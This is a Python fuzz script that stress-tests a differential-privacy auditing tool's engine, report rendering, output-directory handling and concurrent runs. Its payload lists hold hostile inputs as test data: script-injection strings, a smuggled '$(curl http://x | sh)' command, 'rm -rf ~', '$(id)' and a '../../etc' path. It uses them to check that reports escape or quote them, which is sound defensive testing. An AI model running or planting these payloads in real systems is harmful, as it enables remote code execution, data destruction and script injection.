"""Fuzz the failure classes of issue 25 and print a table of outcomes per category.

Run: ``PYTHONPATH=src:tests python scripts/fuzz_reliability_round3.py [--seed N] [--quick]``.
Outcomes: ok (right answer or clean run), clear error (ValueError/TypeError or CLI exit 2 naming
the file/mechanism), wrong answer (a missed violation, a false alarm, raw HTML or an unquoted
payload in a report, a write outside DIR), traceback (any other exception, CLI exit 3), hang
(alarm after 60 s), data lost (a finished claim missing from the manifest/index or deleted).
Nothing is written outside a temporary directory.
"""

from __future__ import annotations

import argparse
import contextlib
import decimal
import fractions
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter, defaultdict
from pathlib import Path

import numpy as np

OUTCOMES = ["ok", "clear error", "wrong answer", "traceback", "hang", "data lost"]
TABLE: dict[str, Counter] = defaultdict(Counter)


class Hang(BaseException):
    """Raised by the alarm; a BaseException so that the CLI's own error handling cannot turn a
    hang into an exit status."""


@contextlib.contextmanager
def alarm(seconds: int = 60):
    def on_alarm(*_):
        raise Hang()
    prev = signal.signal(signal.SIGALRM, on_alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, prev)


def record(category: str, outcome: str, detail: str = "") -> None:
    TABLE[category][outcome] += 1
    if outcome in ("wrong answer", "traceback", "hang", "data lost"):
        print(f"  [{category}] {outcome}: {detail[:300]}", file=sys.stderr)


# -- engine ------------------------------------------------------------------------------------

def _labels(rng: random.Random):
    pools = [
        lambda: (2**64 + rng.randrange(5), 2**64 + 5 + rng.randrange(5)),
        lambda: (-2**63 - 5, -2**63 - 6),
        lambda: (fractions.Fraction(1, 3), fractions.Fraction(1, 3) + fractions.Fraction(1, 10**30)),
        lambda: (decimal.Decimal(1), decimal.Decimal("1." + "0" * 25 + "1")),
        lambda: (0.1, decimal.Decimal("0.1")),
        lambda: (1, 2**64),
        lambda: (2**70, 0.5),
        lambda: ("x", "x\x00"),
        lambda: (b"a", b"a\x00"),
        lambda: (np.longdouble(1) / 3, np.longdouble(1) / 3 + np.longdouble(2) ** -62),
        lambda: (True, 2),
        lambda: (1.0, 1),
    ]
    return rng.choice(pools)()


def fuzz_engine(rng: random.Random, n: int) -> None:
    from dpaudit import audit
    from dpaudit.blackbox.sequential import sequential_audit

    for _ in range(n):
        a, b = _labels(rng)
        p = rng.choice([0.9, 1.0, 0.5])
        as_list = rng.random() < 0.5
        rows = rng.random() < 0.2
        fn = rng.choice(["audit", "sequential"])

        def mech(data, k, g, a=a, b=b, p=p, as_list=as_list, rows=rows):
            hit = g.random(k) < (p if data else 1 - p)
            out = [a if h else b for h in hit]
            if rows:
                out = [[v, v] for v in out]
            return out if as_list else np.array(out, dtype=object)
        same = (a == b) if not isinstance(a, (str, bytes)) else False
        expect_violation = p != 0.5 and not same
        cat = f"engine: exact outcomes ({fn})"
        try:
            with alarm():
                if fn == "audit":
                    v = audit(mech, 0, 1, epsilon=1.0, samples=8_000, seed=rng.randrange(99)).verdict
                else:
                    v = sequential_audit(mech, 0, 1, epsilon=1.0, max_samples=8_000,
                                         seed=rng.randrange(99)).verdict
        except Hang:
            record(cat, "hang", repr((a, b)))
            continue
        except (ValueError, TypeError) as exc:
            ok = "mechanism" in str(exc) or "outputs" in str(exc)
            record(cat, "clear error" if ok else "traceback", f"{(a, b)!r}: {exc}")
            continue
        except Exception as exc:
            record(cat, "traceback", f"{(a, b)!r}: {type(exc).__name__}: {exc}")
            continue
        if p == 0.5 and v == "violated":
            record(cat, "wrong answer", f"false alarm on {(a, b)!r}")
        elif expect_violation and v != "violated":
            record(cat, "wrong answer", f"missed violation on {(a, b)!r} p={p} list={as_list}")
        else:
            record(cat, "ok")


def fuzz_sequential_args(rng: random.Random, n: int) -> None:
    from dpaudit.blackbox.sequential import sequential_audit

    lap = lambda d, k, g: d + g.laplace(0, 1, k)  # noqa: E731
    for _ in range(n):
        kw = dict(mechanism=lap, data0=0.0, data1=1.0, epsilon=1.0, max_samples=2_000)
        key = rng.choice(["epsilon", "alpha", "statistic", "data", "mechanism", "max_samples"])
        kw[key if key != "data" else "data0"] = {
            "epsilon": rng.choice([709.8, 3000.0, 1e308, 0.0, -1.0, float("nan")]),
            "alpha": rng.choice([5e-324, 1e-300, 0.0, 1.0, 0.05]),
            "statistic": rng.choice([5, lambda a, b: a, lambda x: x[:, 0] if x.ndim > 1 else x]),
            "data": None,
            "mechanism": rng.choice([lambda d, k: d, 5, lambda d, k, g, h: d]),
            "max_samples": rng.choice([99, 10**6, "x"]),
        }[key]
        if key == "data":
            kw["data1"] = None
        cat = "engine: sequential_audit arguments"
        try:
            with alarm():
                sequential_audit(**kw)
            record(cat, "ok")
        except Hang:
            record(cat, "hang", key)
        except (ValueError, TypeError) as exc:
            raw = "positional argument" in str(exc) and "must be callable" not in str(exc)
            hidden = "got 0.0" in str(exc) and kw.get(key) not in (0, 0.0)  # 5e-324 as "0.0"
            record(cat, "traceback" if raw or hidden else "clear error", f"{key}: {exc}")
        except Exception as exc:
            record(cat, "traceback", f"{key}: {type(exc).__name__}: {exc}")


# -- reports -----------------------------------------------------------------------------------

A, B = "fake-colt/a", "fake-colt/b"


def _register(theorem: str = "Theorem 1") -> None:
    from dpaudit.claims import PrivacyClaim, Provenance, registry
    from dpaudit.claims.evidence import GridPoint
    from dpaudit.claims.record import ClaimAudit

    registry._REGISTRY.clear()
    registry._loaded = True
    for cid, exact in ((A, 1.0), (B, 2.0)):
        claim = PrivacyClaim(cid, 1.0, 0.0, Provenance("fake.txt", "v1", theorem))

        def run(ctx, claim=claim, exact=exact):
            return ClaimAudit(claim, [GridPoint({"epsilon": 1.0}, 1.0, 0.0, epsilon_exact=exact,
                                                epsilon_accountant=1.0, epsilon_lower_bound=0.5)])
        registry.register(claim, run)


def _cli(*argv: str) -> tuple[int, str]:
    from dpaudit import cli

    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = cli.main(list(argv))
    return code, err.getvalue()


PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))", "quick $(curl http://x | sh) #", "a``<b>``c",
            "{" * 50_000, "x" * 300_000]


def _mutations(rng: random.Random):
    deep = "[" * 100_000 + "]" * 100_000
    return rng.choice([
        ("budget", rng.choice(PAYLOADS)),
        ("reason", rng.choice(PAYLOADS)),
        ("theorem", rng.choice(PAYLOADS)),
        ("reproduce", rng.choice(["dpaudit audit x; rm -rf ~", "$(id)", "dpaudit audit 'a b'"])),
        ("claimed.epsilon", rng.choice([0, -1, int("9" * 400), 1e308, "inf", "nan"])),
        ("alpha", rng.choice([0, 1, None, "0.05", 1e-320])),
        ("seed", rng.choice([-1, 2**70, 1.5])),
        ("extra", "__DEEP__"),
        ("histogram", {"edges": list(range(200_001)), "counts0": [1] * 200_000,
                       "counts1": [1] * 200_000}),
        ("id", rng.choice(["../../etc/x", "fake-colt/" + "y" * 300, "fake-colt/b"])),
    ]), deep


def fuzz_reports(rng: random.Random, n: int, base: Path) -> None:
    _register()
    for k in range(n):
        out = base / f"rep{k}"
        _cli("audit-claims", A, B, "--budget", "quick", "--quiet", "--out", str(out))
        path = out / "fake-colt" / "a.json"
        rec = json.loads(path.read_text())
        (field, value), deep = _mutations(rng)
        if "." in field:
            f0, f1 = field.split(".")
            rec[f0][f1] = value
        else:
            rec[field] = value
        text = json.dumps(rec)
        if value == "__DEEP__":
            text = text.replace('"__DEEP__"', deep)
        path.write_text(text)
        cat = "report: crafted saved JSON"
        t0 = time.monotonic()
        try:
            with alarm():
                code, err = _cli("report", str(out))
        except Hang:
            record(cat, "hang", field)
            continue
        except BaseException as exc:
            record(cat, "traceback", f"{field}: {type(exc).__name__}: {exc}")
            continue
        slow = time.monotonic() - t0 > 30
        if code == 2 and "a.json" in err:
            record(cat, "clear error")
        elif code == 0 and not slow:
            bad = []
            for page in out.rglob("*.md"):
                t = page.read_text()
                if "<script" in t or "<img" in t or "](javascript:" in t:
                    bad.append(str(page))
            for page in list(out.rglob("*.md")) + list(out.rglob("*.html")):
                for line in page.read_text().splitlines():  # commands to paste: quoted payloads
                    if "dpaudit audit" in line and "$(curl" in line and "'quick $(curl" not in line:
                        bad.append(f"{page}: {line[:120]}")
            record(cat, "wrong answer" if bad else "ok", f"{field}: {bad}")
        else:
            record(cat, "traceback", f"{field}: exit {code} {err.strip()} slow={slow}")


def fuzz_directories(rng: random.Random, n: int, base: Path) -> None:
    _register()
    for k in range(n):
        out, other = base / f"dir{k}", base / f"other{k}"
        _cli("audit-claims", A, B, "--budget", "quick", "--quiet", "--out", str(out))
        other.mkdir()
        (other / "keep.png").write_bytes(b"x")
        (other / "a.regret.png").write_bytes(b"x")
        hazard = rng.choice(["symlinked paper", "symlinked papers", "fifo", "dev-zero",
                             "no manifest + fifo", "lock link"])
        if hazard == "symlinked paper":
            for f in (out / "fake-colt").iterdir():
                shutil.move(str(f), other / f.name)
            (out / "fake-colt").rmdir()
            (out / "fake-colt").symlink_to(other)
        elif hazard == "symlinked papers":
            shutil.rmtree(out / "papers")
            (out / "papers").symlink_to(other)
        elif hazard == "fifo":
            (out / "fake-colt" / "a.json").unlink()
            os.mkfifo(out / "fake-colt" / "a.json")
        elif hazard == "dev-zero":
            (out / "fake-colt" / "a.json").unlink()
            (out / "fake-colt" / "a.json").symlink_to("/dev/zero")
        elif hazard == "no manifest + fifo":
            (out / "dpaudit-manifest.json").unlink()
            os.mkfifo(out / "x.json")
            (out / "z.json").symlink_to("/dev/zero")
        else:
            (out / ".dpaudit.lock").unlink(missing_ok=True)
            (out / ".dpaudit.lock").symlink_to(other / "keep.png")
        before = {p.name: p.stat().st_mtime_ns for p in other.iterdir()}
        cmd = rng.choice([["report", str(out)],
                          ["audit-claims", A, B, "--budget", "quick", "--fresh", "--quiet",
                           "--out", str(out)]])
        cat = "report dir: symlinks, FIFOs, devices"
        try:
            with alarm():
                code, err = _cli(*cmd)
        except Hang:
            record(cat, "hang", hazard)
            continue
        except BaseException as exc:
            record(cat, "traceback", f"{hazard}: {type(exc).__name__}: {exc}")
            continue
        after = {p.name: p.stat().st_mtime_ns for p in other.iterdir()}
        if after != before:
            record(cat, "wrong answer", f"{hazard} {cmd[0]}: wrote outside DIR")
        elif code == 2:
            record(cat, "clear error")
        elif code in (0, 1):
            record(cat, "ok")
        else:
            record(cat, "traceback", f"{hazard} {cmd[0]}: exit {code} {err.strip()}")


def fuzz_concurrency(rng: random.Random, n: int, base: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
    from fake_claim_scripts import fake_claims_script

    for k in range(n):
        out = base / f"conc{k}"
        procs = []
        kill_second = rng.random() < 0.5
        for j in range(2):
            claims = [(f"p{j}/c{i}", 0.01) for i in range(40)]
            script = base / f"conc{k}_{j}.py"
            script.write_text(fake_claims_script(claims, ["audit-claims", "--all", "--budget",
                                                          "quick", "--quiet", "--out", str(out)]))
            procs.append(subprocess.Popen([sys.executable, str(script)],
                                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                          text=True))
        if kill_second:
            time.sleep(rng.uniform(0.5, 2.0))
            procs[1].kill()
        codes = [p.wait(300) for p in procs]
        errs = [p.stderr.read() for p in procs]
        cat = "concurrent writers on one --out"
        try:
            manifest = json.loads((out / "dpaudit-manifest.json").read_text())["claims"]
            index = [c["id"] for c in json.loads((out / "index.json").read_text())["claims"]]
        except (OSError, ValueError) as exc:
            record(cat, "data lost", f"no manifest/index: {exc} {codes}")
            continue
        finished = {c for j in range(2) if codes[j] == 0 for c in
                    (f"p{j}/c{i}" for i in range(40))}
        missing = [c for c in finished if c not in manifest or
                   not (out / f"{c}.json").is_file()]
        refused = [j for j in range(2) if codes[j] == 2 and "another dpaudit run" in errs[j]]
        if missing:
            record(cat, "data lost", f"{len(missing)} finished claims lost; codes {codes}")
        elif sorted(index) != sorted(manifest) and not kill_second:
            record(cat, "data lost", f"index {len(index)} vs manifest {len(manifest)}")
        elif refused:
            record(cat, "clear error")
        else:
            record(cat, "ok")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--quick", action="store_true")
    args = parser.parse_args()
    rng = random.Random(args.seed)
    scale = 1 if args.quick else 3
    with tempfile.TemporaryDirectory(prefix="dpaudit-fuzz-") as tmp:
        base = Path(tmp)
        fuzz_engine(rng, 12 * scale)
        fuzz_sequential_args(rng, 10 * scale)
        fuzz_reports(rng, 10 * scale, base)
        fuzz_directories(rng, 6 * scale, base)
        fuzz_concurrency(rng, 2 * scale, base)
    width = max(len(c) for c in TABLE)
    print(f"| {'category'.ljust(width)} | tried | " + " | ".join(OUTCOMES) + " |")
    print(f"|{'-' * (width + 2)}|------:|" + "|".join("-" * (len(o) + 1) + ":" for o in OUTCOMES)
          + "|")
    for cat, counts in TABLE.items():
        print(f"| {cat.ljust(width)} | {sum(counts.values())} | "
              + " | ".join(str(counts[o]) for o in OUTCOMES) + " |")


if __name__ == "__main__":
    main()
